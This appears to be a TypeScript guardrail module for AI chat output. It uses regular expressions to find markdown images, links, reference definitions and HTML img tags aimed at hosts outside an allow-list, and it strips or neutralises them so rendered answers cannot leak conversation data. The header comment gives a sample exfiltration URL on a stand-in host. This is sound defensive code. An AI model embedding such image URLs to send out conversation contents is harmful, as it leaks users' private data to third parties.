import type { TextFinding } from './findings.js';

/**
 * Markdown images and links, and HTML images, that point to a host outside the allow-list: a
 * client that renders the answer fetches an image at once, so a URL that carries the conversation
 * (`![](https://evil.example/p?q=<data>)`) leaks it without a click; a link leaks it on a click.
 * Images are removed; links keep their text and lose their target. Relative and `data:` URLs
 * reach no host and pass.
 */

const MD_IMAGE = /!\[([^\]\n]{0,1000})\]\(\s{0,8}<?([^\s)>[\]]{1,4096})>?(?:\s{1,8}(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s{0,8}\)/g;
const MD_LINK =
  /(?<![!\]\\])\[([^\]\n]{0,1000})\]\(\s{0,8}<?([^\s)>[\]]{1,4096})>?(?:\s{1,8}(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s{0,8}\)/g;
const MD_REFERENCE = /^ {0,3}\[([^\]\n]{1,200})\]:[ \t]{0,8}<?([^\s>]{1,4096})>?[^\n]{0,600}$/gm;
const IMG_OPEN = /<img\b/gi;
/** The `src` of one `<img …>` tag (the tag alone, at most 8 KB, is matched). */
const IMG_SRC = /\bsrc[ \t\n]{0,4}=[ \t\n]{0,4}(?:"([^"]{1,4096})"|'([^']{1,4096})'|([^\s>]{1,4096}))/i;

export const EXFILTRATION_PATTERNS: ReadonlyArray<{ name: string; re: RegExp }> = [
  { name: 'markdown image', re: MD_IMAGE },
  { name: 'markdown link', re: MD_LINK },
  { name: 'markdown reference', re: MD_REFERENCE },
  { name: 'HTML image', re: IMG_OPEN },
  { name: 'HTML image source', re: IMG_SRC },
];

/** The host a URL reaches, lower case; undefined for relative, `data:` and unparseable URLs. */
export function hostOf(url: string): string | undefined {
  const u = url.trim();
  if (/^data:/i.test(u)) return undefined;
  const full = u.startsWith('//') ? 'https:' + u : u;
  if (!/^[a-z][a-z0-9+.-]{0,20}:/i.test(full)) return undefined;
  try {
    const parsed = new URL(full);
    return parsed.hostname ? parsed.hostname.toLowerCase().replace(/^\[|\]$/g, '') : undefined;
  } catch {
    return undefined;
  }
}

/** `example.com` (or `*.example.com`) allows the host and its subdomains. */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  for (const a of allowed) {
    const d = a.startsWith('*.') ? a.slice(2) : a;
    if (host === d || host.endsWith('.' + d)) return true;
  }
  return false;
}

function* matches(re: RegExp, text: string): Generator<RegExpExecArray> {
  re.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) !== null) yield m;
}

export function findExfiltration(text: string, allowed: readonly string[]): TextFinding[] {
  const out: TextFinding[] = [];
  const check = (start: number, length: number, url: string, kind: string, replacement: string) => {
    const host = hostOf(url);
    if (host === undefined || hostAllowed(host, allowed)) return;
    out.push({ start, end: start + length, guardrail: 'exfiltration', detail: `${kind} to ${host}`, replacement });
  };
  if (text.includes('](')) {
    for (const m of matches(MD_IMAGE, text)) check(m.index, m[0].length, m[2], 'markdown image', '');
    for (const m of matches(MD_LINK, text)) check(m.index, m[0].length, m[2], 'markdown link', m[1]);
  }
  if (text.includes(']:')) for (const m of matches(MD_REFERENCE, text)) check(m.index, m[0].length, m[2], 'markdown reference', '');
  if (/<img/i.test(text)) {
    let gt = -1;
    for (const m of matches(IMG_OPEN, text)) {
      if (gt < m.index) gt = text.indexOf('>', m.index);
      if (gt < 0) break;
      if (gt - m.index > 8192) continue;
      const tag = text.slice(m.index, gt + 1);
      const src = IMG_SRC.exec(tag);
      if (src) check(m.index, tag.length, src[1] ?? src[2] ?? src[3], 'HTML image', '');
    }
  }
  return out;
}

const WINDOW = 6144;

/**
 * Where, in text still growing, an image or link that is not closed yet starts: a `[` whose label,
 * target or reference has not ended, a trailing `!`, or an `<img` tag without its `>`.
 */
export function exfiltrationPendingFrom(text: string): number {
  const n = text.length;
  let from = n;
  const last = text.charCodeAt(n - 1);
  if (last === 33 /* ! */ || last === 60 /* < */) from = n - 1;
  const lt = text.lastIndexOf('<', n - 1);
  if (lt >= 0 && n - lt <= WINDOW && text.indexOf('>', lt) < 0 && /^<(?:i(?:m(?:g(?:[\s/][^>]*)?)?)?)?$/i.test(text.slice(lt)))
    from = Math.min(from, lt);
  const open = text.lastIndexOf('[', n - 1);
  if (open >= 0 && n - open <= WINDOW) {
    const rest = text.slice(open);
    const close = rest.indexOf(']');
    const start = open > 0 && text[open - 1] === '!' ? open - 1 : open;
    if (close < 0) {
      if (!rest.includes('\n')) from = Math.min(from, start);
    } else if (close === rest.length - 1) from = Math.min(from, start);
    else if (rest[close + 1] === '(' && !rest.slice(close).includes(')')) from = Math.min(from, start);
    else if (rest[close + 1] === ':' && !rest.slice(close).includes('\n')) from = Math.min(from, start);
  }
  return from;
}
